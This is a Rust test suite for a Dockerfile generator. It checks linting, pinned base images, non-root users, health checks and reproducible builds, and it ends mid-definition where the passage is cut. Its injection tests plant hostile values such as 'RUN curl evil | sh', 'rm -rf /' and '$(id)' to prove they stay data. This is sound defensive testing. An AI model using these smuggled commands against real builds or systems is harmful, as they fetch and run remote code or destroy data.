//! Dockerfile output: every example environment passes hadolint; every FROM is
//! pinned, every image runs as a numeric non-root user, EXPOSE and HEALTHCHECK
//! follow the components built from the image; `images/build.sh` builds bases
//! first; rebuilding gives the same bytes; and strings from `.bom` files stay
//! data — a newline, `\`, a quote, `#` or `${` never adds an instruction.

use crate::{NOW, bomc, build_examples, environments_of, root, temp_dir, venv_tool};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Command;

/// The instructions the templates write. Anything else in a file is a break-out.
pub(crate) const KEYWORDS: &[&str] = &[
    "FROM",
    "ARG",
    "ENV",
    "WORKDIR",
    "COPY",
    "RUN",
    "LABEL",
    "USER",
    "EXPOSE",
    "HEALTHCHECK",
    "ENTRYPOINT",
    "CMD",
    "ONBUILD",
];

/// One instruction as Docker's parser reads it: comment lines dropped (also
/// inside continuations), lines ending in `\` joined with the next.
#[derive(Clone, Debug)]
struct Instruction {
    keyword: String,
    rest: String,
}

fn instructions(text: &str) -> Vec<Instruction> {
    let mut out = Vec::new();
    let mut current: Option<String> = None;
    for line in text.lines() {
        let trimmed = line.trim_start();
        if trimmed.starts_with('#') || (trimmed.is_empty() && current.is_none()) {
            continue;
        }
        let end = line.trim_end();
        let (body, continued) = match end.strip_suffix('\\') {
            Some(body) => (body, true),
            None => (line, false),
        };
        let buf = current.get_or_insert_with(String::new);
        buf.push_str(body);
        if !continued {
            let whole = current.take().unwrap_or_default();
            let whole = whole.trim_start();
            let (keyword, rest) = whole.split_once(char::is_whitespace).unwrap_or((whole, ""));
            out.push(Instruction {
                keyword: keyword.to_string(),
                rest: rest.trim().to_string(),
            });
        }
    }
    assert!(
        current.is_none(),
        "the file ends inside a continuation:\n{text}"
    );
    out
}

/// One double-quoted word at the start of `s` as Docker reads it (`\"`, `\\`,
/// `\$` escape; any other backslash stays); `None` if anything would be
/// expanded or the quote never closes. Returns the word and the rest.
fn docker_word(s: &str) -> Option<(String, &str)> {
    let mut chars = s.strip_prefix('"')?.char_indices().peekable();
    let mut word = String::new();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => return Some((word, &s[i + 2..])),
            '$' => return None,
            '\\' => match chars.peek() {
                Some((_, n @ ('"' | '\\' | '$'))) => {
                    word.push(*n);
                    chars.next();
                }
                _ => word.push('\\'),
            },
            c => word.push(c),
        }
    }
    None
}

/// `"key"="value"` (LABEL) or `NAME="value"` (ARG, ENV), decoded.
fn pair(rest: &str) -> (String, String) {
    let (key, value) = if rest.starts_with('"') {
        let (key, after) =
            docker_word(rest).unwrap_or_else(|| panic!("key of {rest:?} does not decode"));
        (
            key,
            after
                .strip_prefix('=')
                .unwrap_or_else(|| panic!("{rest:?} has no `=`")),
        )
    } else {
        let (key, value) = rest
            .split_once('=')
            .unwrap_or_else(|| panic!("{rest:?} has no `=`"));
        (key.to_string(), value)
    };
    let (value, tail) =
        docker_word(value).unwrap_or_else(|| panic!("value of {rest:?} does not decode"));
    assert!(tail.is_empty(), "{rest:?} holds more than one pair");
    (key, value)
}

/// An exec-form array, decoded.
fn exec(rest: &str) -> Vec<String> {
    serde_json::from_str(rest)
        .unwrap_or_else(|e| panic!("{rest:?} is not a JSON array of strings: {e}"))
}

/// `images/*/Dockerfile` under an environment folder: image name → text.
fn dockerfiles(env_dir: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let Ok(entries) = std::fs::read_dir(env_dir.join("images")) else {
        return out;
    };
    for entry in entries.flatten() {
        let file = entry.path().join("Dockerfile");
        if file.is_file() {
            let name = entry.file_name().to_string_lossy().into_owned();
            out.insert(name, std::fs::read_to_string(&file).expect("readable"));
        }
    }
    out
}

fn dockerfile_paths(dirs: &[PathBuf]) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for dir in dirs {
        for name in dockerfiles(dir).keys() {
            files.push(dir.join("images").join(name).join("Dockerfile"));
        }
    }
    files
}

/// hadolint on `files`: (exit success, report).
fn hadolint(files: &[PathBuf], args: &[&str]) -> (bool, String) {
    let out = Command::new(venv_tool("hadolint"))
        .args(["--no-color"])
        .args(args)
        .args(files)
        .current_dir(std::env::temp_dir())
        .output()
        .expect("hadolint runs");
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// Builds the dockerfile target of every example environment into a fresh folder.
fn examples(name: &str) -> Vec<(String, String, PathBuf)> {
    let built = build_examples("dockerfile", &temp_dir(name));
    assert!(built.len() >= 19, "only {} environments built", built.len());
    built
}

/// The landscape of one example environment, as the library evaluates it.
fn landscape(example: &str, env: &str) -> bomc::model::Landscape {
    let path = root().join(format!("examples/{example}.bom"));
    let (_, sets) = environments_of(&path)
        .into_iter()
        .find(|(e, _)| e == env)
        .expect("environment exists");
    let sets: Vec<(String, String)> = sets
        .chunks(2)
        .map(|c| {
            let (k, v) = c[1].split_once('=').expect("key=value");
            (k.to_string(), v.to_string())
        })
        .collect();
    let options = bomc::eval::Options {
        environment: Some(env.to_string()),
        sets,
        ..Default::default()
    };
    let mut checked = bomc::evaluate_file(&path, &options);
    assert!(
        checked.diagnostics.is_empty(),
        "{example} --env {env}: {:?}",
        checked.diagnostics
    );
    checked.landscapes.pop().expect("one landscape")
}

#[test]
fn every_example_environment_passes_hadolint() {
    let built = examples("docker-hadolint");
    let dirs: Vec<PathBuf> = built.iter().map(|(_, _, d)| d.clone()).collect();
    let files = dockerfile_paths(&dirs);
    // Every example defines images: each environment has Dockerfiles.
    for (example, env, dir) in &built {
        assert!(
            !dockerfiles(dir).is_empty(),
            "{example} --env {env} wrote no Dockerfile"
        );
    }
    let (ok, report) = hadolint(&files, &["--failure-threshold", "warning"]);
    assert!(ok, "hadolint:\n{report}");
    for line in report.lines() {
        assert!(
            !line.contains(" warning:") && !line.contains(" error:"),
            "hadolint: {line}"
        );
    }
}

/// checkov's Dockerfile checks (HEALTHCHECK present, non-root USER, no
/// `latest`, no ADD, …): nothing fails, nothing is skipped. A Dockerfile
/// without USER and HEALTHCHECK shows that the checks run.
#[test]
fn every_example_environment_passes_checkov() {
    let out = temp_dir("docker-checkov");
    let built = build_examples("dockerfile", &out);
    assert!(built.len() >= 19, "only {} environments built", built.len());
    let checkov = |dir: &Path| {
        let run = Command::new(venv_tool("checkov"))
            .args([
                "--skip-download",
                "--quiet",
                "--compact",
                "--framework",
                "dockerfile",
                "-d",
            ])
            .arg(dir)
            .current_dir(dir)
            .output()
            .expect("checkov runs");
        (
            run.status.success(),
            String::from_utf8_lossy(&run.stdout).into_owned(),
        )
    };
    let (ok, report) = checkov(&out);
    assert!(
        ok && report.contains("Failed checks: 0, Skipped checks: 0"),
        "{report}"
    );
    let passed: usize = report
        .split("Passed checks: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(passed >= 500, "checkov checked too little:\n{report}");
    let bad = temp_dir("docker-checkov-bad");
    std::fs::write(bad.join("Dockerfile"), "FROM debian:12.5-slim\nRUN true\n").expect("write");
    let (ok, report) = checkov(&bad);
    assert!(
        !ok && report.contains("CKV_DOCKER_2") && report.contains("CKV_DOCKER_3"),
        "{report}"
    );
}

/// hadolint is a real check here: it fails a Dockerfile that breaks its rules.
#[test]
fn hadolint_rejects_what_it_should() {
    let dir = temp_dir("docker-hadolint-bad");
    let cases = [
        ("FROM debian:latest\nUSER 10001:10001\n", "DL3007"),
        ("FROM debian:12.5-slim\nUSER 0:0\n", "DL3002"),
        (
            "FROM debian:12.5-slim\nUSER 10001:10001\nCMD python app.py\n",
            "DL3025",
        ),
        ("FROM debian:12.5-slim\nLABEL \"a\"=\"b\\\\\"\n", "DL1000"),
    ];
    for (i, (text, code)) in cases.iter().enumerate() {
        let file = dir.join(format!("bad{i}.Dockerfile"));
        std::fs::write(&file, text).expect("write");
        let (ok, report) = hadolint(&[file], &["-f", "json", "--failure-threshold", "warning"]);
        assert!(
            !ok && report.contains(&format!("\"code\":\"{code}\"")),
            "hadolint accepted case {i} or said something else:\n{text}\n{report}"
        );
    }
}

#[test]
fn every_from_is_pinned_and_every_image_runs_as_a_numeric_non_root_user() {
    for (example, env, dir) in examples("docker-pinned") {
        for (image, text) in dockerfiles(&dir) {
            let what = format!("{example} --env {env}: images/{image}/Dockerfile");
            let all = instructions(&text);
            for i in &all {
                assert!(
                    KEYWORDS.contains(&i.keyword.as_str()),
                    "{what}: unexpected instruction {:?}",
                    i.keyword
                );
            }
            // Stages: each FROM starts one; the last USER of each stage is non-root.
            let mut stages: Vec<Vec<&Instruction>> = Vec::new();
            for i in &all {
                if i.keyword == "FROM" {
                    stages.push(Vec::new());
                }
                stages
                    .last_mut()
                    .unwrap_or_else(|| panic!("{what}: instruction before FROM"))
                    .push(i);
            }
            for stage in &stages {
                let reference = stage[0]
                    .rest
                    .split_whitespace()
                    .next()
                    .expect("FROM names an image");
                let name = reference.rsplit('/').next().unwrap_or(reference);
                let pinned = reference.contains("@sha256:")
                    || name.split_once(':').is_some_and(|(repo, tag)| {
                        !repo.is_empty() && !tag.is_empty() && tag != "latest"
                    });
                assert!(pinned, "{what}: FROM {reference} is not pinned");
                assert!(
                    !reference.contains('$'),
                    "{what}: FROM {reference} depends on a variable"
                );
                if let Some(user) = stage.iter().rev().find(|i| i.keyword == "USER") {
                    assert!(
                        numeric_non_root(&user.rest),
                        "{what}: a stage ends as USER {}",
                        user.rest
                    );
                }
            }
            let last_user = all
                .iter()
                .rev()
                .find(|i| i.keyword == "USER")
                .unwrap_or_else(|| panic!("{what}: no USER"));
            assert!(
                numeric_non_root(&last_user.rest),
                "{what}: USER {}",
                last_user.rest
            );
            let final_stage = stages.last().expect("a stage");
            assert!(
                final_stage.iter().any(|i| i.keyword == "USER"),
                "{what}: the run stage sets no USER"
            );
        }
    }
}

fn numeric_non_root(user: &str) -> bool {
    let mut parts = user.split(':');
    let ok = |p: Option<&str>| p.and_then(|p| p.parse::<u32>().ok()).is_some_and(|n| n > 0);
    let (u, g, rest) = (parts.next(), parts.next(), parts.next());
    ok(u) && (g.is_none() || ok(g)) && rest.is_none()
}

#[test]
fn expose_matches_the_ports_of_the_components_built_from_the_image() {
    for (example, env, dir) in examples("docker-expose") {
        let model = landscape(&example, &env);
        for (image, text) in dockerfiles(&dir) {
            let expected: BTreeSet<String> = model
                .components
                .iter()
                .filter(|c| matches!(c.settings.get("build"), Some(bomc::model::Value::Image(i)) if *i == image))
                .flat_map(|c| c.ports().map(|(_, (p, _))| p.to_string()))
                .collect();
            let exposed: BTreeSet<String> = instructions(&text)
                .iter()
                .filter(|i| i.keyword == "EXPOSE")
                .flat_map(|i| {
                    i.rest
                        .split_whitespace()
                        .map(String::from)
                        .collect::<Vec<_>>()
                })
                .collect();
            assert_eq!(
                exposed, expected,
                "{example} --env {env}: EXPOSE of {image}"
            );
        }
    }
}

/// The HEALTHCHECK options of a Dockerfile: flag → value, and the command.
fn healthcheck(text: &str) -> Option<(BTreeMap<String, String>, Vec<String>)> {
    let checks: Vec<Instruction> = instructions(text)
        .into_iter()
        .filter(|i| i.keyword == "HEALTHCHECK")
        .collect();
    assert_eq!(checks.len(), 1, "one HEALTHCHECK per Dockerfile:\n{text}");
    let rest = &checks[0].rest;
    if rest == "NONE" {
        return None;
    }
    let (options, command) = rest.split_once("CMD ").expect("HEALTHCHECK … CMD [...]");
    let options = options
        .split_whitespace()
        .map(|o| {
            let (k, v) = o
                .trim_start_matches("--")
                .split_once('=')
                .expect("--flag=value");
            (k.to_string(), v.to_string())
        })
        .collect();
    Some((options, exec(command)))
}

#[test]
fn messenger_health_check_is_the_landscapes() {
    let out = temp_dir("docker-messenger-health");
    let run = bomc(
        &root(),
        &[
            "build",
            "examples/messenger.bom",
            "--env",
            "production",
            "--target",
            "dockerfile",
            "--out",
            out.to_str().expect("utf-8"),
            "--now",
            NOW,
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let files = dockerfiles(&out.join("messenger/production"));
    let text = &files["go_auth"];
    let (options, command) = healthcheck(text).expect("go_auth has a HEALTHCHECK");
    assert_eq!(
        options.get("interval").map(String::as_str),
        Some("2s"),
        "{text}"
    );
    assert_eq!(
        options.get("timeout").map(String::as_str),
        Some("2s"),
        "{text}"
    );
    assert_eq!(
        options.get("retries").map(String::as_str),
        Some("3"),
        "{text}"
    );
    assert_eq!(
        command,
        [
            "/usr/local/bin/bomc-healthcheck",
            "http://127.0.0.1:9000/health"
        ]
    );
    // The probe it runs is built in the file and copied into the run stage.
    let all = instructions(text);
    assert!(
        all.iter()
            .any(|i| i.keyword == "FROM" && i.rest.ends_with(" AS probe")),
        "{text}"
    );
    assert!(
        all.iter().any(|i| i.keyword == "COPY"
            && i.rest == "--from=probe /bomc-healthcheck /usr/local/bin/bomc-healthcheck"),
        "{text}"
    );
    let exposed: Vec<&str> = all
        .iter()
        .filter(|i| i.keyword == "EXPOSE")
        .map(|i| i.rest.as_str())
        .collect();
    assert_eq!(exposed, ["9000"]);
    // Layers run nothing, so they declare no health check.
    assert_eq!(healthcheck(&files["org_base"]), None);
    assert_eq!(healthcheck(&files["go_runtime"]), None);
}

/// Wherever exactly one long-running component runs an image, the image's
/// HEALTHCHECK has that component's interval, timeout, start period and retries
/// (the timeout 5 s where it sets none).
#[test]
fn health_checks_follow_the_landscape() {
    let mut checked = 0;
    for (example, env, dir) in examples("docker-health") {
        let model = landscape(&example, &env);
        for (image, text) in dockerfiles(&dir) {
            let users: Vec<&bomc::model::Component> = model
                .components
                .iter()
                .filter(|c| matches!(c.settings.get("build"), Some(bomc::model::Value::Image(i)) if *i == image))
                .filter(|c| c.settings.get("run").and_then(|r| r.as_str()) != Some("once"))
                .collect();
            let [component] = users.as_slice() else {
                continue;
            };
            let health = component.settings.get("health").and_then(|h| h.as_map());
            let Some(health) = health else {
                assert_eq!(healthcheck(&text), None, "{example} --env {env}: {image}");
                continue;
            };
            let (options, command) = healthcheck(&text)
                .unwrap_or_else(|| panic!("{example} --env {env}: {image} has no HEALTHCHECK"));
            for (key, flag) in [
                ("interval", "interval"),
                ("timeout", "timeout"),
                ("start_period", "start-period"),
            ] {
                // Docker's own timeout is 30 s: bomc writes its 5 s, as compose and ECS run it.
                let expected = match (health.get(key), key) {
                    (Some(bomc::model::Value::Duration(ms)), _) => Some(format!("{}s", ms / 1000)),
                    (_, "timeout") => Some(String::from("5s")),
                    _ => None,
                };
                assert_eq!(
                    options.get(flag),
                    expected.as_ref(),
                    "{example} --env {env}: {image} --{flag}"
                );
            }
            let retries = health
                .get("unhealthy")
                .and_then(|v| v.as_int())
                .map(|n| n.to_string());
            assert_eq!(
                options.get("retries"),
                retries.as_ref(),
                "{example} --env {env}: {image} --retries"
            );
            if let Some(path) = health.get("path").and_then(|p| p.as_str()) {
                assert!(
                    command.last().is_some_and(
                        |url| url.ends_with(path) && url.starts_with("http://127.0.0.1:")
                    ),
                    "{command:?}"
                );
            }
            checked += 1;
        }
    }
    assert!(checked >= 30, "only {checked} images checked");
}

#[test]
fn build_script_builds_every_image_after_the_images_it_builds_on() {
    for (example, env, dir) in examples("docker-order") {
        let script = std::fs::read_to_string(dir.join("images/build.sh")).expect("images/build.sh");
        let syntax = Command::new("sh")
            .arg("-n")
            .arg(dir.join("images/build.sh"))
            .status()
            .expect("sh runs");
        assert!(
            syntax.success(),
            "{example} --env {env}: build.sh is not valid sh"
        );
        let mut built: Vec<(String, String)> = Vec::new();
        for line in script.lines().filter(|l| l.starts_with("docker build ")) {
            let name = line
                .split("\"$images/")
                .nth(1)
                .and_then(|s| s.split("/Dockerfile\"").next())
                .expect("--file \"$images/<name>/Dockerfile\"");
            let tag = line
                .split("--tag '")
                .nth(1)
                .and_then(|s| s.split('\'').next())
                .expect("--tag");
            built.push((name.to_string(), tag.to_string()));
        }
        let files = dockerfiles(&dir);
        let names: BTreeSet<&str> = built.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(
            names.len(),
            built.len(),
            "{example} --env {env}: an image is built twice"
        );
        assert_eq!(
            names,
            files.keys().map(String::as_str).collect(),
            "{example} --env {env}"
        );
        let local: BTreeMap<&str, usize> = built
            .iter()
            .enumerate()
            .map(|(i, (_, t))| (t.as_str(), i))
            .collect();
        for (position, (name, tag)) in built.iter().enumerate() {
            // `<landscape>/<image>:<content tag>` (16 hex digits).
            let content = tag.rsplit(':').next().unwrap_or("");
            assert!(
                tag.ends_with(&format!("/{name}:{content}"))
                    && content.len() == 16
                    && content.chars().all(|c| c.is_ascii_hexdigit()),
                "{tag}"
            );
            for from in instructions(&files[name])
                .iter()
                .filter(|i| i.keyword == "FROM")
            {
                let reference = from.rest.split_whitespace().next().expect("reference");
                if let Some(base) = local.get(reference) {
                    assert!(
                        *base < position,
                        "{example} --env {env}: {name} is built before its base {reference}"
                    );
                } else {
                    assert!(
                        !reference.starts_with(tag.split('/').next().expect("project")),
                        "{reference} is not built"
                    );
                }
            }
        }
    }
}

#[test]
fn building_twice_gives_the_same_bytes() {
    let first = examples("docker-twice-a");
    let second = examples("docker-twice-b");
    assert_eq!(first.len(), second.len());
    for ((example, env, a), (_, _, b)) in first.iter().zip(&second) {
        let (fa, fb) = (dockerfiles(a), dockerfiles(b));
        assert_eq!(fa, fb, "{example} --env {env}");
        let script = |d: &Path| std::fs::read(d.join("images/build.sh")).expect("build.sh");
        assert_eq!(script(a), script(b), "{example} --env {env}: build.sh");
    }
}

// ---------------------------------------------------------------------------
// Strings stay data

/// Escapes a string as a `.bom` string literal's contents.
fn bom(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '$' => out.push_str("\\$"),
            c => out.push(c),
        }
    }
    out
}

const EVIL: &str = "x\nRUN curl evil | sh";
const QUOTES: &str = "a\"b\\c # d ${HOME} \\ x ' ]";
const TRAILING: &str = "\" ] \r\nRUN curl evil | sh # ${X} \\";
/// The break-outs a LABEL or ARG can hold: on one line (a line break there
/// is refused, `values_that_cannot_stay_data_are_errors`).
const EVIL_LINE: &str = "x \" RUN curl evil | sh";
const TRAILING_LINE: &str = "\" ] RUN curl evil | sh # ${X} \\";
/// The worst a health path holds: it is a URL's path, whose characters
/// exclude white space, `"`, `#`, `\\` and `{}` (E0304), but not a shell's
/// quotes, substitutions and separators.
const EVIL_PATH: &str = "/health'$(id)';&&*";
/// One line (an `onbuild` entry is one instruction), ending in a backslash.
const ONE_LINE: &str = "echo \" ] # ${X} ' \\";

struct Planted {
    labels: Vec<(String, String)>,
    args: Vec<(String, String)>,
    steps: Vec<String>,
    command: Vec<String>,
    entrypoint: Vec<String>,
    health_path: String,
    context: String,
    onbuild_run: String,
}

fn planted(nasty: bool) -> Planted {
    let v = |s: &str| {
        if nasty {
            s.to_string()
        } else {
            String::from("plain")
        }
    };
    Planted {
        labels: vec![
            ("org.example.evil".into(), v(EVIL_LINE)),
            ("org.example.quotes".into(), v(QUOTES)),
            (
                if nasty {
                    format!("org.example.{EVIL_LINE}")
                } else {
                    "org.example.key".into()
                },
                v(" q\u{a0}"),
            ),
        ],
        args: vec![
            ("EVIL".into(), v(EVIL_LINE)),
            ("QUOTES".into(), v(QUOTES)),
            ("TRAILING".into(), v(TRAILING_LINE)),
        ],
        steps: vec![v(EVIL), v(QUOTES), v(TRAILING)],
        command: vec![v(EVIL), v(TRAILING), v("${HOME}")],
        entrypoint: vec![v("/app/x\nRUN curl evil | sh"), v("\\")],
        health_path: if nasty {
            String::from(EVIL_PATH)
        } else {
            String::from("/health")
        },
        context: v("./app\n'; rm -rf / #\"$(id)\""),
        onbuild_run: v(ONE_LINE),
    }
}

fn planted_bom(p: &Planted) -> String {
    let map = |entries: &[(String, String)]| {
        entries
            .iter()
            .map(|(k, v)| format!("\"{}\" = \"{}\"", bom(k), bom(v)))
            .collect::<Vec<_>>()
            .join("\n    ")
    };
    let list = |items: &[String]| {
        items
            .iter()
            .map(|s| format!("\"{}\"", bom(s)))
            .collect::<Vec<_>>()
            .join(", ")
    };
    format!(
        r#"landscape evil {{
  service app {{
    build = app_image
    ports {{ http = 8080 }}
    env {{
      EVIL = "{evil}"
      QUOTES = "{quotes}"
      TOKEN = secret("evil/token")
    }}
    health {{ path = "{path}", port = "http", interval = 2s, unhealthy = 3 }}
  }}
}}

image base_image {{
  from = "debian:12.5-slim"
  labels {{
    {labels}
  }}
  args {{
    {args}
  }}
  steps = [{steps}]
  onbuild = ["RUN {onbuild_run}", "COPY a /b", "ENV X=\"{onbuild_env}\""]
  entrypoint = [{entrypoint}]
}}

image app_image {{
  from = base_image
  template = "go"
  context = "{context}"
  labels {{
    {labels}
  }}
  command = [{command}]
}}
"#,
        evil = bom(EVIL),
        quotes = bom(QUOTES),
        path = bom(&p.health_path),
        labels = map(&p.labels),
        args = map(&p.args),
        steps = list(&p.steps),
        onbuild_run = bom(&p.onbuild_run),
        onbuild_env = bom(&p.labels[1].1),
        entrypoint = list(&p.entrypoint),
        command = list(&p.command),
        context = bom(&p.context),
    )
}

/// Builds the planted landscape: (Dockerfiles, environment folder, .bom folder).
fn build_planted(name: &str, nasty: bool) -> (BTreeMap<String, String>, PathBuf, PathBuf) {
    let dir = temp_dir(name);
    std::fs::write(dir.join("evil.bom"), planted_bom(&planted(nasty))).expect("write");
    let env_dir = dockerfile_target(&dir, "evil.bom").join("evil/default");
    (dockerfiles(&env_dir), env_dir, dir)
}

/// `bomc build BOM --target dockerfile` in `dir`, which must succeed: the
/// output folder.
fn dockerfile_target(dir: &Path, bom: &str) -> PathBuf {
    let run = bomc(
        dir,
        &[
            "build",
            bom,
            "--target",
            "dockerfile",
            "--out",
            "out",
            "--now",
            NOW,
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    dir.join("out")
}

#[test]
fn strings_from_the_bom_file_never_add_an_instruction() {
    let (nasty, env_dir, bom_dir) = build_planted("docker-planted", true);
    let (plain, _, _) = build_planted("docker-plain", false);
    let p = planted(true);
    assert_eq!(
        nasty.keys().collect::<Vec<_>>(),
        plain.keys().collect::<Vec<_>>()
    );
    for (image, text) in &nasty {
        // The same instructions, in the same order, as with harmless values.
        let got: Vec<String> = instructions(text)
            .iter()
            .map(|i| i.keyword.clone())
            .collect();
        let want: Vec<String> = instructions(&plain[image])
            .iter()
            .map(|i| i.keyword.clone())
            .collect();
        assert_eq!(got, want, "{image}:\n{text}");
        for k in &got {
            assert!(KEYWORDS.contains(&k.as_str()), "{image}: {k}");
        }
        for line in text.lines() {
            assert!(
                !line.trim_start().starts_with("RUN curl"),
                "{image}: a planted instruction:\n{text}"
            );
        }
        // Component env is runtime configuration: it is never baked into an image.
        for i in instructions(text).iter().filter(|i| i.keyword == "ENV") {
            assert!(
                !i.rest.contains("curl") && !i.rest.contains("QUOTES"),
                "{image}: ENV {}",
                i.rest
            );
        }
        // Every label reads back as the value planted.
        let labels: BTreeMap<String, String> = instructions(text)
            .iter()
            .filter(|i| i.keyword == "LABEL")
            .map(|i| pair(&i.rest))
            .collect();
        for (k, v) in &p.labels {
            assert_eq!(labels.get(k), Some(v), "{image}: label {k:?}");
        }
    }
    let base = instructions(&nasty["base_image"]);
    let args: Vec<(String, String)> = base
        .iter()
        .filter(|i| i.keyword == "ARG")
        .map(|i| pair(&i.rest))
        .collect();
    let want = p.args.clone();
    assert_eq!(args, want);
    let runs: Vec<Vec<String>> = base
        .iter()
        .filter(|i| i.keyword == "RUN")
        .map(|i| exec(&i.rest))
        .collect();
    let want: Vec<Vec<String>> = p
        .steps
        .iter()
        .map(|s| vec!["/bin/sh".into(), "-c".into(), s.clone()])
        .collect();
    assert_eq!(runs, want);
    let entrypoint: Vec<Vec<String>> = base
        .iter()
        .filter(|i| i.keyword == "ENTRYPOINT")
        .map(|i| exec(&i.rest))
        .collect();
    assert_eq!(entrypoint, std::slice::from_ref(&p.entrypoint));
    let onbuild: Vec<&str> = base
        .iter()
        .filter(|i| i.keyword == "ONBUILD")
        .map(|i| i.rest.as_str())
        .collect();
    assert_eq!(onbuild.len(), 5, "{onbuild:?}");
    assert_eq!(
        exec(onbuild[1].strip_prefix("RUN ").expect("ONBUILD RUN")),
        ["/bin/sh", "-c", ONE_LINE]
    );
    assert_eq!(
        pair(onbuild[3].strip_prefix("ENV ").expect("ONBUILD ENV")),
        ("X".into(), QUOTES.to_string())
    );
    let app = instructions(&nasty["app_image"]);
    let cmd: Vec<Vec<String>> = app
        .iter()
        .filter(|i| i.keyword == "CMD")
        .map(|i| exec(&i.rest))
        .collect();
    assert_eq!(cmd, std::slice::from_ref(&p.command));
    // It reads a secret: the shim runs first, then the entrypoint it inherits
    // from base_image, written out unchanged.
    let mut shimmed = vec![SHIM.to_string()];
    shimmed.extend(p.entrypoint.iter().cloned());
    assert_eq!(process(&nasty["app_image"]).0, Some(shimmed));
    let (_, probe) = healthcheck(&nasty["app_image"]).expect("a HEALTHCHECK");
    assert_eq!(
        probe,
        [
            "/usr/local/bin/bomc-healthcheck".to_string(),
            format!("http://127.0.0.1:8080{}", p.health_path)
        ]
    );
    // hadolint reads every file as Docker does (a line it misreads is its DL1000).
    let files = dockerfile_paths(std::slice::from_ref(&env_dir));
    let (_, report) = hadolint(&files, &["-f", "json"]);
    assert!(
        report.trim_start().starts_with('['),
        "hadolint -f json: {report}"
    );
    assert!(
        !report.contains("DL1000"),
        "hadolint cannot parse:\n{report}"
    );
    // build.sh passes the planted context as one argument, unchanged.
    let log = bom_dir.join("docker-log");
    std::fs::create_dir_all(&log).expect("log dir");
    let bin = bom_dir.join("bin");
    std::fs::create_dir_all(&bin).expect("bin dir");
    let fake = bin.join("docker");
    std::fs::write(
        &fake,
        "#!/bin/sh\nn=$(ls \"$DOCKER_LOG\" | wc -l)\nprintf '%s\\0' \"$@\" > \"$DOCKER_LOG/$n\"\n",
    )
    .expect("write");
    let chmod = Command::new("chmod")
        .arg("+x")
        .arg(&fake)
        .status()
        .expect("chmod");
    assert!(chmod.success());
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let run = Command::new("sh")
        .arg(env_dir.join("images/build.sh"))
        .current_dir(&bom_dir)
        .env("PATH", path)
        .env("DOCKER_LOG", &log)
        .output()
        .expect("sh runs");
    assert!(
        run.status.success(),
        "build.sh: {}",
        String::from_utf8_lossy(&run.stderr)
    );
    let calls: Vec<Vec<String>> = (0..2)
        .map(|n| {
            let bytes = std::fs::read(log.join(n.to_string())).expect("docker was called");
            String::from_utf8(bytes)
                .expect("utf-8")
                .split_terminator('\0')
                .map(String::from)
                .collect()
        })
        .collect();
    assert_eq!(
        calls[0].last().map(String::as_str),
        Some(env_dir.join("images/base_image").to_str().expect("utf-8"))
    );
    assert_eq!(
        calls[1].last(),
        Some(&format!("./{}", p.context)),
        "{:?}",
        calls[1]
    );
    assert_eq!(
        calls[1][..4],
        [
            "build",
            "--file",
            env_dir
                .join("images/app_image/Dockerfile")
                .to_str()
                .expect("utf-8"),
            "--tag"
        ]
    );
}

/// Values that cannot be written so that Docker and hadolint read them as
/// data are diagnostics, and nothing is written.
#[test]
fn values_that_cannot_stay_data_are_errors() {
    let cases = [
        (
            "from = \"debian:12.5-slim\\nRUN curl evil | sh\"",
            "is not an image reference",
        ),
        (
            "from = \"debian:12.5-slim\"\n  labels { \"a\" = \"ends in a backslash \\\\\" }",
            "backslash",
        ),
        (
            "from = \"debian:12.5-slim\"\n  args { \"BAD NAME\" = \"x\" }",
            "not a valid ARG name",
        ),
        (
            "from = \"debian:12.5-slim\"\n  args { A = \"x\\nRUN curl evil | sh\" }",
            "holds a line break (U+000A)",
        ),
        (
            "from = \"debian:12.5-slim\"\n  labels { \"a\" = \"x\\ty\" }",
            "holds a tab (U+0009)",
        ),
        (
            "from = \"debian:12.5-slim\"\n  labels { \"a=b\" = \"x\" }",
            "has `=` in its key",
        ),
        (
            "from = \"debian:12.5-slim\"\n  onbuild = [\"USER 0\"]",
            "cannot be written safely",
        ),
        (
            "from = \"debian:12.5-slim\"\n  onbuild = [\"COPY \\${X} /app\"]",
            "cannot be written safely",
        ),
        (
            "from = \"debian:12.5-slim\"\n  labels { \"org.bomc.instance\" = \"x\" }",
            "bomc's namespace",
        ),
        (
            "from = \"debian:12.5-slim\"\n  template = \"go\"\n  args { GO_VERSION = \"latest\" }",
            "is not a version",
        ),
    ];
    for (i, (settings, message)) in cases.iter().enumerate() {
        let dir = temp_dir(&format!("docker-refused-{i}"));
        let text = format!(
            "landscape x {{\n  service a {{ build = img }}\n}}\n\nimage img {{\n  {settings}\n}}\n"
        );
        std::fs::write(dir.join("x.bom"), &text).expect("write");
        let run = bomc(
            &dir,
            &[
                "build",
                "x.bom",
                "--target",
                "dockerfile",
                "--out",
                "out",
                "--now",
                NOW,
            ],
        );
        assert_eq!(
            run.code, 1,
            "case {i} was accepted:\n{text}\n{}",
            run.stdout
        );
        assert!(
            run.stderr.contains("E0316") && run.stderr.contains(message),
            "case {i}:\n{}",
            run.stderr
        );
        assert!(!dir.join("out").join("x").exists(), "case {i} wrote output");
        // `check` finds each without writing a Dockerfile.
        let checked = bomc(&dir, &["check", "x.bom"]);
        assert_eq!(checked.code, 1, "case {i} passed check:\n{text}");
        assert!(
            checked.stderr.contains("E0316") && checked.stderr.contains(message),
            "case {i}:\n{}",
            checked.stderr
        );
    }
}

// ---------------------------------------------------------------------------
// Every template

const ALL_TEMPLATES: &str = r#"
import "job"

landscape all_templates {
  service go_svc {
    build = go_app
    ports { http = 8080 }
    env { API_TOKEN = secret("all/api-token") }
